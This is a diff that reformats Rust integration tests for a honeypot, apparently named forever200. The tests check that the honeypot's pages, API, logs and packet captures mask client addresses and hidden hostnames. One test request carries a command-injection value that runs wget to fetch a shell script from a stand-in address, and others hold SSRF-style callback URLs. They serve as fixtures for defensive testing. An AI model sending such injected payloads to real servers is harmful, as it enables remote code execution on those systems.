@@ -30,21 +30,39 @@ const SECRETS: [&str; 8] = [
     "3405803875",
     "0xcb007163",
 ];
-const VARIABLES: [(&str, &str); 2] =
-    [("FOREVER200_MASK_SOURCES", "1"), ("FOREVER200_HIDE", "203.0.113.99, honey.example.net")];
+const VARIABLES: [(&str, &str); 2] = [
+    ("FOREVER200_MASK_SOURCES", "1"),
+    ("FOREVER200_HIDE", "203.0.113.99, honey.example.net"),
+];
 
 fn post(headers: &str, body: &[u8]) -> Vec<u8> {
-    let head = format!("POST /body HTTP/1.1\r\nHost: x\r\n{headers}Content-Length: {}\r\n\r\n", body.len());
+    let head = format!(
+        "POST /body HTTP/1.1\r\nHost: x\r\n{headers}Content-Length: {}\r\n\r\n",
+        body.len()
+    );
     [head.as_bytes(), body].concat()
 }
 
 /// A TLS hello that asks for this name.
 fn hello(name: &str) -> Vec<u8> {
-    let counted = |width: usize, bytes: &[u8]| [&bytes.len().to_be_bytes()[8 - width..], bytes].concat();
+    let counted =
+        |width: usize, bytes: &[u8]| [&bytes.len().to_be_bytes()[8 - width..], bytes].concat();
     let name = counted(2, &[&[0][..], &counted(2, name.as_bytes())].concat());
     let extensions = counted(2, &[&[0, 0][..], &counted(2, &name)].concat());
-    let body = [&[3, 3][..], &[7; 32], &[0], &[0, 2, 0x13, 1], &[1, 0], &extensions].concat();
-    [&[0x16, 3, 1][..], &counted(2, &[&[1][..], &counted(3, &body)].concat())].concat()
+    let body = [
+        &[3, 3][..],
+        &[7; 32],
+        &[0],
+        &[0, 2, 0x13, 1],
+        &[1, 0],
+        &extensions,
+    ]
+    .concat();
+    [
+        &[0x16, 3, 1][..],
+        &counted(2, &[&[1][..], &counted(3, &body)].concat()),
+    ]
+    .concat()
 }
 
 /// Requests that name the client or this machine, each in a way of its own.
@@ -52,21 +70,47 @@ fn requests() -> anyhow::Result<Vec<Vec<u8>>> {
     let basic = BASE64_STANDARD.encode(format!("admin:{NAME}"));
     let mut gzip = GzEncoder::new(Vec::new(), Compression::default());
     // More than once, or it would not be compressed but stored.
-    gzip.write_all(format!("callback=http://{ADDRESS}/&host={NAME}&").repeat(9).as_bytes())?;
-    let get = |target: &str, headers: &str| format!("GET {target} HTTP/1.1\r\n{headers}\r\n").into_bytes();
+    gzip.write_all(
+        format!("callback=http://{ADDRESS}/&host={NAME}&")
+            .repeat(9)
+            .as_bytes(),
+    )?;
+    let get = |target: &str, headers: &str| {
+        format!("GET {target} HTTP/1.1\r\n{headers}\r\n").into_bytes()
+    };
     let gzip = gzip.finish()?;
-    ensure!(!gzip.windows(NAME.len()).any(|window| window == NAME.as_bytes()), "it is stored");
+    ensure!(
+        !gzip
+            .windows(NAME.len())
+            .any(|window| window == NAME.as_bytes()),
+        "it is stored"
+    );
     Ok(vec![
-        get(&format!("/{NAME}/?url=http://{ADDRESS}/"), &format!("Host: {ADDRESS}:80\r\n")),
-        get("/upper", "Host: HONEY.Example.NET\r\nReferer: http://honey.example.net/home\r\n"),
-        get(&format!("/?x=$(wget+http://{ADDRESS}/x.sh)&from={CLIENT}"), &format!("X-Forwarded-For: {CLIENT}\r\n")),
+        get(
+            &format!("/{NAME}/?url=http://{ADDRESS}/"),
+            &format!("Host: {ADDRESS}:80\r\n"),
+        ),
+        get(
+            "/upper",
+            "Host: HONEY.Example.NET\r\nReferer: http://honey.example.net/home\r\n",
+        ),
+        get(
+            &format!("/?x=$(wget+http://{ADDRESS}/x.sh)&from={CLIENT}"),
+            &format!("X-Forwarded-For: {CLIENT}\r\n"),
+        ),
         get(
             "/?a=203%2E0%2e113%2E99&b=%68oney%2Eexample%2enet&c=203%252e0%252e113%252e99",
             "Host: 203-0-113-99.example\r\n",
         ),
-        get("/?n=3405803875&h=0xCB007163", &format!("Host: x\r\nAuthorization: Basic {basic}\r\n")),
+        get(
+            "/?n=3405803875&h=0xCB007163",
+            &format!("Host: x\r\nAuthorization: Basic {basic}\r\n"),
+        ),
         post("Content-Encoding: gzip\r\n", &gzip),
-        post("Content-Type: application/json\r\n", format!(r#"{{"a":["{ADDRESS}"],"b":"{NAME}"}}"#).as_bytes()),
+        post(
+            "Content-Type: application/json\r\n",
+            format!(r#"{{"a":["{ADDRESS}"],"b":"{NAME}"}}"#).as_bytes(),
+        ),
         hello(NAME),
         b"\x05\x01\x00\x04\x01\x00\x01\xcb\x00\x71\x63\x00\x50".to_vec(),
         // The masked network itself is no secret.
@@ -85,7 +129,11 @@ async fn recorded() -> anyhow::Result<(Stack, usize, Vec<u16>)> {
         let mut stream = socket.connect(stack.front()).await?;
         ports.push(stream.local_addr()?.port());
         stream.write_all(request).await?;
-        ensure!(client::read_to_end(&mut stream).await? == RESPONSE, "{}", request.escape_ascii());
+        ensure!(
+            client::read_to_end(&mut stream).await? == RESPONSE,
+            "{}",
+            request.escape_ascii()
+        );
     }
     stack.until_recorded(requests.len() as u64).await?;
     Ok((stack, requests.len(), ports))
@@ -112,14 +160,24 @@ async fn everything(stack: &Stack, count: usize) -> anyhow::Result<Vec<(String, 
     .map(|path| format!("/home{path}"))
     .into();
     for seq in 1..=count {
-        let of_one = ["requests/SEQ", "requests/SEQ/raw", "requests/SEQ/pcap", "requests/SEQ/har", "api/requests/SEQ"];
+        let of_one = [
+            "requests/SEQ",
+            "requests/SEQ/raw",
+            "requests/SEQ/pcap",
+            "requests/SEQ/har",
+            "api/requests/SEQ",
+        ];
         paths.extend(of_one.map(|path| format!("/home/{}", path.replace("SEQ", &seq.to_string()))));
     }
     let mut answers = Vec::new();
     for path in paths {
         let response = stack.get(&path).await?;
         let may_fail = path.ends_with("/har") || path.ends_with("/9999");
-        ensure!(response.status == 200 || may_fail && response.status == 404, "{path}: {}", response.status);
+        ensure!(
+            response.status == 200 || may_fail && response.status == 404,
+            "{path}: {}",
+            response.status
+        );
         answers.push((path, response.body));
     }
     for (format, name) in [("json", "request"), ("html", "row")] {
@@ -138,10 +196,18 @@ fn layers(answer: &[u8]) -> Vec<Vec<u8>> {
     let lossless: String = answer.iter().copied().map(char::from).collect();
     let plain = lossless.replace("&#x2f;", "/").replace("[.]", ".");
     let is_base64 = |char: char| char.is_ascii_alphanumeric() || "+/=".contains(char);
-    let runs = plain.split(|char| !is_base64(char)).filter(|run| run.len() >= 16);
-    let decoded: Vec<_> = runs.filter_map(|run| BASE64_STANDARD.decode(run).ok()).collect();
+    let runs = plain
+        .split(|char| !is_base64(char))
+        .filter(|run| run.len() >= 16);
+    let decoded: Vec<_> = runs
+        .filter_map(|run| BASE64_STANDARD.decode(run).ok())
+        .collect();
     // A request's bytes in base64 may hold base64 of their own.
-    let inner: Vec<_> = decoded.iter().filter(|bytes| bytes.len() < answer.len()).flat_map(|it| layers(it)).collect();
+    let inner: Vec<_> = decoded
+        .iter()
+        .filter(|bytes| bytes.len() < answer.len())
+        .flat_map(|it| layers(it))
+        .collect();
     [vec![plain.into_bytes()], decoded, inner].concat()
 }
 
@@ -155,19 +221,30 @@ async fn nothing_that_is_shown_names_a_client_or_this_machine() -> anyhow::Resul
                 ensure!(!text.contains(secret), "{path} shows {secret}: {text}");
             }
             for port in &ports {
-                for shown in [format!("_port\":{port}"), format!("67.0:{port}"), format!("connection\":\"{port}")] {
+                for shown in [
+                    format!("_port\":{port}"),
+                    format!("67.0:{port}"),
+                    format!("connection\":\"{port}"),
+                ] {
                     ensure!(!text.contains(&shown), "{path} shows {shown}");
                 }
             }
             for bytes in [&CLIENT.octets()[..], &[203, 0, 113, 99]] {
-                ensure!(!layer.windows(4).any(|window| window == bytes), "{path} has {bytes:?}");
+                ensure!(
+                    !layer.windows(4).any(|window| window == bytes),
+                    "{path} has {bytes:?}"
+                );
             }
         }
     }
     // It hides these because it has them.
-    let (kept, _) = forever200_testkit::exchange(stack.at(11211), b"get forever200:slot:1\r\nquit\r\n").await?;
+    let (kept, _) =
+        forever200_testkit::exchange(stack.at(11211), b"get forever200:slot:1\r\nquit\r\n").await?;
     let kept = String::from_utf8_lossy(&kept);
-    ensure!(kept.contains("\"src_ip\":\"127.231.67.89\"") && kept.contains(NAME), "{kept}");
+    ensure!(
+        kept.contains("\"src_ip\":\"127.231.67.89\"") && kept.contains(NAME),
+        "{kept}"
+    );
     Ok(())
 }
 
@@ -177,40 +254,107 @@ async fn what_is_shown_says_what_it_hides_and_is_otherwise_whole() -> anyhow::Re
     let list = get_json(stack.front(), "/home/api/requests?raw=true").await?;
     let found = list["requests"].as_array().context("no list")?;
     for (request, sent) in found.iter().rev().zip(requests()?) {
-        let said = ["src_ip", "src_prefix", "src_port", "dest_ip", "bytes"].map(|name| &request[name]);
-        assert_eq!(said, [&json!(NETWORK), &json!(24), &json!(0), &json!("0.0.0.0"), &json!(sent.len())]);
+        let said =
+            ["src_ip", "src_prefix", "src_port", "dest_ip", "bytes"].map(|name| &request[name]);
+        assert_eq!(
+            said,
+            [
+                &json!(NETWORK),
+                &json!(24),
+                &json!(0),
+                &json!("0.0.0.0"),
+                &json!(sent.len())
+            ]
+        );
         let raw = BASE64_STANDARD.decode(request["raw_base64"].as_str().context("no bytes")?)?;
-        let changed = raw.iter().zip(&sent).filter(|(shown, sent)| shown != sent).count();
-        assert_eq!((raw.len(), request["blanked"].as_u64().unwrap_or(0)), (sent.len(), changed as u64));
+        let changed = raw
+            .iter()
+            .zip(&sent)
+            .filter(|(shown, sent)| shown != sent)
+            .count();
+        assert_eq!(
+            (raw.len(), request["blanked"].as_u64().unwrap_or(0)),
+            (sent.len(), changed as u64)
+        );
     }
     let of = |seq: usize| &found[count - seq];
-    assert_eq!(of(1)["summary"], "GET /xxxxxxxxxxxxxxxxx/?url=http://xxxxxxxxxxxx/");
-    assert_eq!(of(2)["http"]["headers"][0], json!(["Host", "xxxxxxxxxxxxxxxxx"]));
-    assert_eq!(of(3)["indicators"], json!([{ "address": "hxxp://xxxxxxxxxxxx/x.sh" }]));
+    assert_eq!(
+        of(1)["summary"],
+        "GET /xxxxxxxxxxxxxxxxx/?url=http://xxxxxxxxxxxx/"
+    );
+    assert_eq!(
+        of(2)["http"]["headers"][0],
+        json!(["Host", "xxxxxxxxxxxxxxxxx"])
+    );
+    assert_eq!(
+        of(3)["indicators"],
+        json!([{ "address": "hxxp://xxxxxxxxxxxx/x.sh" }])
+    );
     assert_eq!(
         of(5)["http"]["headers"][1][1],
-        format!("Basic {}", BASE64_STANDARD.encode(format!("admin:{}", "x".repeat(17))))
+        format!(
+            "Basic {}",
+            BASE64_STANDARD.encode(format!("admin:{}", "x".repeat(17)))
+        )
     );
-    assert_eq!((&of(8)["protocol"], &of(count)["blanked"]), (&json!("tls"), &Value::Null));
+    assert_eq!(
+        (&of(8)["protocol"], &of(count)["blanked"]),
+        (&json!("tls"), &Value::Null)
+    );
 
     // What is shown is not compared with what is kept, or every look would find something new.
-    let tags = [stack.get("/home/api/requests").await?, stack.get("/home/api/requests").await?];
-    assert_eq!(tags[0].header("etag").context("no tag")?, tags[1].header("etag").context("no tag")?);
+    let tags = [
+        stack.get("/home/api/requests").await?,
+        stack.get("/home/api/requests").await?,
+    ];
+    assert_eq!(
+        tags[0].header("etag").context("no tag")?,
+        tags[1].header("etag").context("no tag")?
+    );
 
-    let mut schema: Value = serde_json::from_slice(&std::fs::read(project().join("docs/api.schema.json"))?)?;
+    let mut schema: Value =
+        serde_json::from_slice(&std::fs::read(project().join("docs/api.schema.json"))?)?;
     schema["$ref"] = "#/$defs/list".into();
     let faults = jsonschema::validator_for(&schema)?;
-    let faults: Vec<_> = faults.iter_errors(&list).map(|fault| fault.to_string()).collect();
+    let faults: Vec<_> = faults
+        .iter_errors(&list)
+        .map(|fault| fault.to_string())
+        .collect();
     assert_eq!(faults, Vec::<String>::new());
 
-    let pages = [("/home", true), ("/home/requests/1", true), ("/home/export.html", true), ("/home/labels", false)];
+    let pages = [
+        ("/home", true),
+        ("/home/requests/1", true),
+        ("/home/export.html", true),
+        ("/home/labels", false),
+    ];
     for (path, says_so) in pages {
-        assert_eq!(stack.get(path).await?.text().contains("Not all is shown: source addresses"), says_so, "{path}");
+        assert_eq!(
+            stack
+                .get(path)
+                .await?
+                .text()
+                .contains("Not all is shown: source addresses"),
+            says_so,
+            "{path}"
+        );
     }
     let page = stack.get("/home").await?.text();
-    ensure!(page.contains("<a href=\"/home?source=127.231.67.0&#x2f;24\">127.231.67.0&#x2f;24</a></td>"), "{page}");
+    ensure!(
+        page.contains(
+            "<a href=\"/home?source=127.231.67.0&#x2f;24\">127.231.67.0&#x2f;24</a></td>"
+        ),
+        "{page}"
+    );
     ensure!(page.contains("blanked in part"), "{page}");
-    ensure!(stack.get("/home/text").await?.text().contains("  127.231.67.0/24  "), "no network");
+    ensure!(
+        stack
+            .get("/home/text")
+            .await?
+            .text()
+            .contains("  127.231.67.0/24  "),
+        "no network"
+    );
     Ok(())
 }
 
@@ -232,10 +376,17 @@ async fn a_filter_finds_networks_and_no_addresses() -> anyhow::Result<()> {
         ("q=%3Dhttp://xxxxxxxxxxxx/", 1),
     ] {
         let list = get_json(stack.front(), &format!("/home/api/requests?{query}")).await?;
-        assert_eq!(list["requests"].as_array().map(Vec::len), Some(found), "{query}");
+        assert_eq!(
+            list["requests"].as_array().map(Vec::len),
+            Some(found),
+            "{query}"
+        );
     }
     let stats = get_json(stack.front(), "/home/api/stats").await?;
-    assert_eq!((&stats["sources"], &stats["private_only"]), (&json!(1), &json!(true)));
+    assert_eq!(
+        (&stats["sources"], &stats["private_only"]),
+        (&json!(1), &json!(true))
+    );
     Ok(())
 }
 
@@ -248,7 +399,10 @@ async fn masked_connections_are_distinct_in_a_capture() -> anyhow::Result<()> {
     assert_eq!((seen.streams.len(), seen.complaints), (count, Vec::new()));
     for stream in &seen.streams {
         assert_eq!(
-            (stream.client.ip().to_string(), stream.server.ip().to_string()),
+            (
+                stream.client.ip().to_string(),
+                stream.server.ip().to_string()
+            ),
             (NETWORK.into(), "0.0.0.0".into())
         );
         assert_eq!(stream.response, RESPONSE);
@@ -258,18 +412,31 @@ async fn masked_connections_are_distinct_in_a_capture() -> anyhow::Result<()> {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn logs_name_no_client() -> anyhow::Result<()> {
-    let stack = Stack::start_with(&[&VARIABLES[..], &[("FOREVER200_LOG_FORMAT", "json")]].concat()).await?;
+    let stack =
+        Stack::start_with(&[&VARIABLES[..], &[("FOREVER200_LOG_FORMAT", "json")]].concat()).await?;
     for request in requests()? {
         exchange_from(CLIENT, stack.front(), &request).await?;
     }
     // Straight to the responder, without the header that it expects.
-    let bad = exchange_from(CLIENT, stack.at(9999), b"GET / HTTP/1.1\r\nHost: honey.example.net\r\n\r\n").await;
+    let bad = exchange_from(
+        CLIENT,
+        stack.at(9999),
+        b"GET / HTTP/1.1\r\nHost: honey.example.net\r\n\r\n",
+    )
+    .await;
     ensure!(bad.is_ok_and(|reply| reply.is_empty()), "it was answered");
     stack.until_recorded(requests()?.len() as u64).await?;
     let log = stack.log();
-    ensure!(log.contains("connection dropped") && log.contains(r#""mask_sources":true,"hidden_texts":2"#), "{log}");
+    ensure!(
+        log.contains("connection dropped")
+            && log.contains(r#""mask_sources":true,"hidden_texts":2"#),
+        "{log}"
+    );
     for secret in SECRETS {
-        ensure!(!log.to_lowercase().contains(secret), "the log has {secret}: {log}");
+        ensure!(
+            !log.to_lowercase().contains(secret),
+            "the log has {secret}: {log}"
+        );
     }
     Ok(())
 }
@@ -277,13 +444,24 @@ async fn logs_name_no_client() -> anyhow::Result<()> {
 #[test]
 fn a_text_that_is_everywhere_is_refused_and_a_switch_may_be_1() -> anyhow::Result<()> {
     for (name, value, says) in [
-        ("FOREVER200_HIDE", "honey.example.net,net", "--hide <TEXTS>': expected texts of 4 to 255 bytes, not \"net\""),
+        (
+            "FOREVER200_HIDE",
+            "honey.example.net,net",
+            "--hide <TEXTS>': expected texts of 4 to 255 bytes, not \"net\"",
+        ),
         ("FOREVER200_MASK_SOURCES", "2", "--mask-sources <SWITCH>'"),
     ] {
         let viewer = programs()?.join("forever200-viewer");
-        let output = command(viewer).env(name, value).env("NO_COLOR", "1").output()?;
+        let output = command(viewer)
+            .env(name, value)
+            .env("NO_COLOR", "1")
+            .output()?;
         let stderr = String::from_utf8(output.stderr)?;
-        assert_eq!((output.status.code(), stderr.lines().count()), (Some(2), 1), "{stderr}");
+        assert_eq!(
+            (output.status.code(), stderr.lines().count()),
+            (Some(2), 1),
+            "{stderr}"
+        );
         assert!(stderr.contains(says), "{stderr}");
     }
     for value in ["0", "1", "on", "off"] {
@@ -291,7 +469,10 @@ fn a_text_that_is_everywhere_is_refused_and_a_switch_may_be_1() -> anyhow::Resul
             .args(["--proxy-protocol", value, "--listen", "nowhere"])
             .output()?;
         let stderr = String::from_utf8(help.stderr)?;
-        assert!(stderr.contains("--listen") && !stderr.contains("--proxy-protocol"), "{stderr}");
+        assert!(
+            stderr.contains("--listen") && !stderr.contains("--proxy-protocol"),
+            "{stderr}"
+        );
     }
     Ok(())
 }
